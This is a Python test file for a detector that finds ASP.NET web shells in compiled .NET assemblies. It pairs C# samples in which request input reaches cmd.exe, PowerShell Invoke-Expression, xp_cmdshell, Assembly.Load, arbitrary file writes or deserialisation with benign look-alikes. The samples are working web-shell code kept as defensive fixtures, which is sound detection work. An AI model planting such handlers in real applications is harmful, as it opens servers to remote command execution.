"""IL analysis of compiled .NET assemblies (issue 14, IL1, session 20): request input reaching an operation in
a compiled page, handler DLL, ASMX service or ASP.NET Core controller is found from the IL; ordinary code of
the same shape (a handler that logs the request to a fixed file, a service that runs a fixed command, a
parameterised query, an upload into a fixed folder) stays silent.

The C# below was written for these tests (compiled with mcs, never run); it reproduces code shapes, not
collected files.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles.assembly import analysis

from .assembly_build import compile_cs, needs_mcs

pytestmark = needs_mcs

_USING = (
    "using System; using System.IO; using System.Web; using System.Web.UI; using System.Diagnostics;\n"
    "using System.Reflection; using System.Data.SqlClient; using System.Net; using System.Net.Sockets;\n"
    "using System.Runtime.InteropServices; using System.Web.Services; using Microsoft.Win32;\n"
    "using System.CodeDom.Compiler; using System.Runtime.Serialization.Formatters.Binary;\n"
)


def _handler(body: str, extra: str = "") -> str:
    return (
        _USING
        + "public class Handler : IHttpHandler {\n"
        "  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n" + body + "\n  }\n" + extra + "}\n"
    )


#: (name, source, Core stub, sink id of the expected flow)
SHELLS: list[tuple[str, str, bool, str]] = [
    (
        "start_info",
        _handler(
            'string c = ctx.Request.Form["c"]; var p = new Process(); p.StartInfo.FileName = "cmd.exe";'
            ' p.StartInfo.Arguments = "/c " + c; p.StartInfo.UseShellExecute = false;'
            " p.StartInfo.RedirectStandardOutput = true; p.Start();"
            " ctx.Response.Write(p.StandardOutput.ReadToEnd());"
        ),
        False,
        "process",
    ),
    (
        "field_between_events",
        _USING
        + "public class Console : Page {\n  string cmd;\n"
        '  protected void Page_Load(object s, EventArgs e) { cmd = Request.QueryString["x"]; }\n'
        '  protected void Run_Click(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + cmd); }\n}\n',
        False,
        "process",
    ),
    (
        "helper_method",
        _handler('Run(ctx.Request["q"]);', '  static void Run(string a) { var psi = new ProcessStartInfo("cmd.exe", "/c " + a); Process.Start(psi); }\n'),
        False,
        "process",
    ),
    (
        "assembly_bytes",
        _handler(
            'byte[] b = Convert.FromBase64String(ctx.Request.Form["d"]); Assembly a = Assembly.Load(b);'
            ' a.CreateInstance("X").Equals(ctx);'
        ),
        False,
        "assembly-load",
    ),
    (
        "body_buffer",
        _handler(
            "byte[] b = new byte[ctx.Request.ContentLength]; ctx.Request.InputStream.Read(b, 0, b.Length);"
            ' Assembly.Load(b).CreateInstance("K").Equals(ctx);'
        ),
        False,
        "assembly-load",
    ),
    (
        "compile_source",
        _handler(
            "var cp = new Microsoft.CSharp.CSharpCodeProvider(); var pars = new CompilerParameters();"
            ' pars.GenerateInMemory = true; var r = cp.CompileAssemblyFromSource(pars, ctx.Request.Form["src"]);'
        ),
        False,
        "compile",
    ),
    (
        "file_write",
        _handler(
            'File.WriteAllBytes(ctx.Server.MapPath(ctx.Request["p"]), Convert.FromBase64String(ctx.Request["d"]));'
        ),
        False,
        "file-write",
    ),
    (
        "upload_anywhere",
        _handler('HttpPostedFile f = ctx.Request.Files[0]; f.SaveAs(ctx.Request.Form["path"] + f.FileName);'),
        False,
        "upload-save",
    ),
    (
        "sql_console",
        _handler(
            'var conn = new SqlConnection("Server=.;Integrated Security=true"); conn.Open();'
            ' var cmd = new SqlCommand(ctx.Request.Form["q"], conn); var rd = cmd.ExecuteReader();'
        ),
        False,
        "sql-text",
    ),
    (
        "socket_relay",
        _handler('var t = new TcpClient(ctx.Request["h"], int.Parse(ctx.Request["p"])); t.Close();'),
        False,
        "socket",
    ),
    (
        "http_proxy",
        _handler('var w = new WebClient(); ctx.Response.Write(w.DownloadString(ctx.Request.QueryString["u"]));'),
        False,
        "http-out",
    ),
    (
        "registry_browser",
        _handler('RegistryKey k = Registry.LocalMachine.OpenSubKey(ctx.Request["k"]); ctx.Response.Write(k.GetValueNames().Length);'),
        False,
        "registry",
    ),
    (
        "reflection_choice",
        _handler(
            'MethodInfo m = typeof(Environment).GetMethod(ctx.Request["m"]); object o = m.Invoke(null, new object[0]);'
            " ctx.Response.Write(o);"
        ),
        False,
        "reflection-invoke",
    ),
    (
        "deserialize_body",
        _handler("object o = new BinaryFormatter().Deserialize(ctx.Request.InputStream); ctx.Response.Write(o);"),
        False,
        "deserialize",
    ),
    (
        "native_loader",
        _handler(
            'IntPtr h = LoadLibrary(ctx.Request["dll"]); ctx.Response.Write(h.ToInt64());',
            '  [DllImport("kernel32.dll")] static extern IntPtr LoadLibrary(string name);\n',
        ),
        False,
        "native-load",
    ),
    (
        "page_drop",
        _handler('File.WriteAllText(ctx.Server.MapPath("~/aspnet_client/status.aspx"), ctx.Request.Form["body"]);'),
        False,
        "page-write",
    ),
    (
        "sql_os_command",
        _handler(
            'var conn = new SqlConnection("Server=.;Integrated Security=true"); conn.Open();'
            ' var cmd = new SqlCommand("EXEC master..xp_cmdshell \'" + ctx.Request["c"] + "\'", conn); cmd.ExecuteNonQuery();'
        ),
        False,
        "sql-os-command",
    ),
    (
        "reflected_loader",
        _handler(
            'MethodInfo m = typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) });'
            ' object a = m.Invoke(null, new object[] { Convert.FromBase64String(ctx.Request.Form["d"]) }); ctx.Response.Write(a);'
        ),
        False,
        "reflected-call",
    ),
    (
        "connection_string_by_name",
        _handler(
            'ctx.Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings[ctx.Request["n"]].ConnectionString);'
        ),
        False,
        "config-secret",
    ),
    (
        "combined_path",
        _handler(
            'File.WriteAllBytes(Path.Combine(ctx.Server.MapPath("~/"), ctx.Request["name"]), Convert.FromBase64String(ctx.Request["d"]));'
        ),
        False,
        "file-write",
    ),
    (
        "pipe_relay",
        _handler(
            'var p = new System.IO.Pipes.NamedPipeClientStream(".", "relay"); p.Connect(1000);'
            ' var w = new StreamWriter(p); w.Write(ctx.Request.Form["m"]); w.Flush();'
        ),
        False,
        "pipe-relay",
    ),
    (
        "wmi_create",
        'using System.Management; using System.Web;\n'
        "public class W : IHttpHandler { public bool IsReusable { get { return false; } }\n"
        '  public void ProcessRequest(HttpContext ctx) { var c = new ManagementClass("Win32_Process");'
        ' ManagementBaseObject p = c.GetMethodParameters("Create"); p["CommandLine"] = ctx.Request.Form["c"];'
        ' c.InvokeMethod("Create", p, null); }\n}\n',
        True,
        "wmi-process",
    ),
    (
        "powershell_iex",
        'using System.Management.Automation; using System.Web;\n'
        "public class P : IHttpHandler { public bool IsReusable { get { return false; } }\n"
        '  public void ProcessRequest(HttpContext ctx) { PowerShell.Create().AddCommand("Invoke-Expression")'
        '.AddArgument(ctx.Request["s"]).Invoke(); }\n}\n',
        True,
        "powershell",
    ),
    (
        "recursive_keeper",  # a method that calls itself and keeps its parameter in a field (its own summary grows)
        _handler(
            'Keep(ctx.Request["c"], "x", 3); Process.Start("cmd.exe", "/c " + other);',
            "  static string kept; static string other;\n"
            "  static void Keep(string v, string w, int n) { kept = v; if (n > 0) Keep(w, v, n - 1); other = kept; }\n",
        ),
        False,
        "process",
    ),
    (
        "folder_browser",
        _handler(
            'var dir = new DirectoryInfo(ctx.Request["d"]); foreach (var f in dir.GetFiles()) ctx.Response.Write(f.Name);'
            ' using (var r = new StreamReader(Path.Combine(dir.FullName, ctx.Request["f"]))) ctx.Response.Write(r.ReadToEnd());'
        ),
        False,
        "file-read",
    ),
    (
        "asmx_method",
        _USING
        + "public class Tools : WebService {\n"
        '  [WebMethod] public string Exec(string cmd) { var p = Process.Start("cmd.exe", "/c " + cmd);'
        " return p.StandardOutput.ReadToEnd(); }\n}\n",
        False,
        "process",
    ),
    (
        "core_action",
        "using System.Diagnostics; using Microsoft.AspNetCore.Mvc;\n"
        "public class OpsController : Controller {\n"
        '  public string Run(string c) { var psi = new ProcessStartInfo { FileName = "/bin/sh", Arguments = "-c " + c };'
        " var p = Process.Start(psi); return p.StandardOutput.ReadToEnd(); }\n}\n",
        True,
        "process",
    ),
    (
        "core_request",
        "using System.Diagnostics; using Microsoft.AspNetCore.Http;\n"
        "public class Tap {\n"
        '  public void Invoke(HttpContext context) { string c = context.Request.Query["c"];'
        ' Process.Start("cmd.exe", "/c " + c); }\n}\n',
        True,
        "process",
    ),
    (
        "core_upload",
        "using System.IO; using Microsoft.AspNetCore.Http;\n"
        "public class Drop {\n"
        "  public void Invoke(HttpContext context) { IFormFile f = context.Request.Form.Files[0];"
        ' using (var fs = new FileStream(context.Request.Form["to"], FileMode.Create)) { f.CopyTo(fs); } }\n}\n',
        True,
        "file-write",
    ),
    (
        "minimal_api",
        "using System.Diagnostics; using Microsoft.AspNetCore.Builder;\n"
        "public static class Routes {\n"
        '  public static void Add(WebApplication app) { app.MapGet("/x", (ctx, x) => {'
        ' Process.Start("cmd.exe", "/c " + x); return ""; }); }\n}\n',
        True,
        "process",
    ),
    (
        "razor_page_handler",
        "using System.IO; using Microsoft.AspNetCore.Mvc.RazorPages;\n"
        "public class EditModel : PageModel {\n"
        "  public void OnPost(string path, string text) { File.WriteAllText(path, text); }\n}\n",
        True,
        "file-write",
    ),
]

#: Ordinary code of the same shapes: nothing found.
TWINS: list[tuple[str, str, bool]] = [
    (
        "fixed_log",
        _handler('File.AppendAllText(@"C:\\logs\\visits.log", ctx.Request.Form["name"] + Environment.NewLine);'),
        False,
    ),
    (
        "fixed_command",
        _handler(
            'string who = ctx.Request["user"]; var p = Process.Start(new ProcessStartInfo("ipconfig", "/all")'
            " { RedirectStandardOutput = true, UseShellExecute = false });"
            " ctx.Response.Write(who + p.StandardOutput.ReadToEnd());"
        ),
        False,
    ),
    (
        "body_to_fixed_file",
        _handler(
            "byte[] b = new byte[ctx.Request.ContentLength]; ctx.Request.InputStream.Read(b, 0, b.Length);"
            ' File.WriteAllBytes(@"C:\\data\\inbox\\last.bin", b); ctx.Response.Write(b.Length);'
        ),
        False,
    ),
    (
        "upload_folder",
        _handler(
            "HttpPostedFile f = ctx.Request.Files[0];"
            ' f.SaveAs(ctx.Server.MapPath("~/uploads/") + Path.GetFileName(f.FileName));'
        ),
        False,
    ),
    (
        "upload_combined_folder",
        _handler(
            "HttpPostedFile f = ctx.Request.Files[0];"
            ' f.SaveAs(Path.Combine(ctx.Server.MapPath("~/uploads"), Path.GetFileName(f.FileName)));'
        ),
        False,
    ),
    (
        "report_writer",
        _handler(
            'File.WriteAllText(ctx.Server.MapPath("~/reports/last.html"), HttpUtility.HtmlEncode(ctx.Request["title"]));'
            ' File.WriteAllText(ctx.Server.MapPath("~/status.aspx"), "<%@ Page %>ok");'
        ),
        False,
    ),
    (
        "spliced_search",
        _handler(
            'var conn = new SqlConnection("Server=.;Integrated Security=true");'
            ' var cmd = new SqlCommand("SELECT name FROM people WHERE name LIKE \'" + ctx.Request["q"] + "%\'", conn);'
            " conn.Open(); ctx.Response.Write(cmd.ExecuteScalar());"
        ),
        False,
    ),
    (
        "named_connection",
        _handler(
            'ctx.Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings["Main"].Name + ctx.Request["x"]);'
        ),
        False,
    ),
    (
        "pipe_status",
        _handler(
            'var p = new System.IO.Pipes.NamedPipeClientStream(".", "status"); p.Connect(1000);'
            ' var w = new StreamWriter(p); w.Write("ping"); w.Flush(); var log = new StreamWriter(@"C:\\logs\\a.log");'
            ' log.Write(ctx.Request["x"]);'
        ),
        False,
    ),
    (
        "powershell_lookup",
        'using System.Management.Automation; using System.Web;\n'
        "public class P : IHttpHandler { public bool IsReusable { get { return false; } }\n"
        '  public void ProcessRequest(HttpContext ctx) { PowerShell.Create().AddCommand("Get-Mailbox")'
        '.AddParameter("Identity", ctx.Request["user"]).Invoke(); }\n}\n',
        True,
    ),
    (
        "writer_over_copied_body",
        _handler(
            "var ms = new MemoryStream(); ctx.Request.InputStream.CopyTo(ms); ms.Position = 0;"
            ' var w = new StreamWriter(ms); w.Write("ack"); w.Flush(); ctx.Response.Write(ms.Length);'
            " var echo = new StreamWriter(ctx.Request.InputStream); echo.Flush();"
        ),
        False,
    ),
    (
        "download_folder",
        _handler(
            'ctx.Response.TransmitFile(ctx.Server.MapPath("~/files/") + Path.GetFileName(ctx.Request["f"]));'
            ' var r = new StreamReader(ctx.Request.InputStream); ctx.Response.Write(r.ReadToEnd().Length);'
        ),
        False,
    ),
    (
        "parameterised_query",
        _handler(
            'var conn = new SqlConnection("Server=.;Integrated Security=true");'
            ' var cmd = new SqlCommand("SELECT name FROM people WHERE id = @id", conn);'
            ' cmd.Parameters.AddWithValue("@id", ctx.Request["id"]); conn.Open(); ctx.Response.Write(cmd.ExecuteScalar());'
        ),
        False,
    ),
    (
        "fixed_api",
        _handler(
            'var w = new WebClient(); ctx.Response.Write(w.DownloadString("https://api.example.org/lookup?q=" +'
            ' HttpUtility.UrlEncode(ctx.Request["q"])));'
        ),
        False,
    ),
    (
        "fixed_reflection",
        _handler(
            'MethodInfo m = typeof(String).GetMethod("Copy"); ctx.Response.Write(m.Invoke(null, new object[] { ctx.Request["v"] }));'
        ),
        False,
    ),
    (
        "named_assembly",
        _handler('Assembly a = Assembly.Load("System.Web"); ctx.Response.Write(a.FullName + ctx.Request["x"]);'),
        False,
    ),
    (
        "asmx_lookup",
        _USING
        + "public class Directory : WebService {\n"
        '  [WebMethod] public string Find(string name) { File.AppendAllText(@"C:\\logs\\find.log", name);'
        ' var p = Process.Start("hostname"); return name + p.Id; }\n}\n',
        False,
    ),
    (
        "core_action_fixed",
        "using System.Diagnostics; using System.IO; using Microsoft.AspNetCore.Mvc;\n"
        "public class StatusController : Controller {\n"
        '  public string Get(string note) { File.AppendAllText("/var/log/app/status.log", note);'
        ' var p = Process.Start("uptime"); return note + p.Id; }\n}\n',
        True,
    ),
    (
        "core_not_controller",
        "using System.Diagnostics;\n"
        "public class Jobs {\n"
        "  public void Run(string c) { Process.Start(c); }\n}\n",
        True,
    ),
    (
        "minimal_api_fixed",
        "using System.Diagnostics; using System.Collections.Generic; using Microsoft.AspNetCore.Builder;\n"
        "public static class Routes {\n"
        '  public static void Add(WebApplication app) { app.MapGet("/x", (ctx, x) => { Process.Start("hostname"); return x; });'
        ' new List<string> { "ipconfig" }.ForEach(s => Process.Start(s)); }\n}\n',
        True,
    ),
    (
        "native_clock",
        _handler(
            "ctx.Response.Write(GetTickCount());",
            '  [DllImport("kernel32.dll")] static extern uint GetTickCount();\n',
        ),
        False,
    ),
]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("il")
    out = {}
    for name, source, core, *_ in SHELLS + TWINS:  # type: ignore[operator]
        out[name] = compile_cs(tmp, name, source, core=core)
    return out


@pytest.mark.parametrize(("name", "sink"), [(s[0], s[3]) for s in SHELLS])
def test_request_input_reaching_an_operation_is_found(built: dict[str, Path], name: str, sink: str) -> None:
    report = analysis.analyse(built[name].read_bytes(), name)
    flows = [h for h in report.hits if h.confidence == "high"]
    assert sink in {h.rule.id for h in flows}, [analysis.describe(h) for h in report.hits]
    hit = next(h for h in flows if h.rule.id == sink)
    assert hit.entry is not None and hit.entry.member and "::" in hit.method and hit.offset >= 0


@pytest.mark.parametrize("name", [t[0] for t in TWINS])
def test_ordinary_code_of_the_same_shape_is_silent(built: dict[str, Path], name: str) -> None:
    report = analysis.analyse(built[name].read_bytes(), name)
    assert not report.hits, [analysis.describe(h) for h in report.hits]


def test_a_flow_names_its_members_offsets_and_the_calls_between(built: dict[str, Path]) -> None:
    report = analysis.analyse(built["helper_method"].read_bytes(), "helper_method")
    hit = next(h for h in report.hits if h.rule.id == "process")
    assert hit.entry is not None
    assert hit.entry.member == "System.Web.HttpRequest::get_Item"
    assert hit.entry.method == "Handler::ProcessRequest"
    assert hit.sink == "System.Diagnostics.Process::Start" and hit.method == "Handler::Run"
    assert hit.via and hit.via[0].startswith("Handler::ProcessRequest IL_") and hit.via[0].endswith("calls Handler::Run")
    line = analysis.describe(hit)
    assert "get_Item" in line and "Process::Start" in line and "IL_" in line


def test_a_native_declaration_alone_is_for_review(tmp_path: Path) -> None:
    source = _handler(
        "ctx.Response.Write(VirtualAlloc(IntPtr.Zero, (UIntPtr)4096, 0x3000, 0x40).ToInt64());",
        '  [DllImport("kernel32.dll")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);\n',
    )
    report = analysis.analyse(compile_cs(tmp_path, "alloc", source).read_bytes(), "alloc")
    assert [(h.rule.id, h.confidence, h.entry) for h in report.hits] == [("native-code", "medium", None)]
    assert report.hits[0].sink == "kernel32.dll!VirtualAlloc"


def test_an_assembly_with_no_operation_is_not_walked(built: dict[str, Path], tmp_path: Path) -> None:
    source = _handler('ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request["q"]));')
    report = analysis.analyse(compile_cs(tmp_path, "echo", source).read_bytes(), "echo")
    assert report.walked == 0 and not report.hits and report.methods >= 2
    assert analysis.analyse(built["start_info"].read_bytes()).walked >= 1


def test_an_assembly_naming_no_request_type_is_screened_out(tmp_path: Path) -> None:
    """No request type, no request-bound base or attribute, no native import named in the metadata: no request input
    can enter the code, so the file is not read further (framework and package assemblies, at memory speed)."""
    plain = "using System.Diagnostics;\npublic class Tool { public static void Run(string c) { Process.Start(c); } }\n"
    report = analysis.analyse(compile_cs(tmp_path, "tool", plain).read_bytes(), "tool")
    assert report.screened and not report.hits and report.walked == 0
    native = plain.replace(
        "public class Tool {",
        'public class Tool { [System.Runtime.InteropServices.DllImport("kernel32.dll")]'
        " static extern System.IntPtr VirtualAlloc(System.IntPtr a, System.UIntPtr s, uint t, uint p);",
    )
    report = analysis.analyse(compile_cs(tmp_path, "tool2", native).read_bytes(), "tool2")
    assert not report.screened and [h.rule.id for h in report.hits] == ["native-code"]
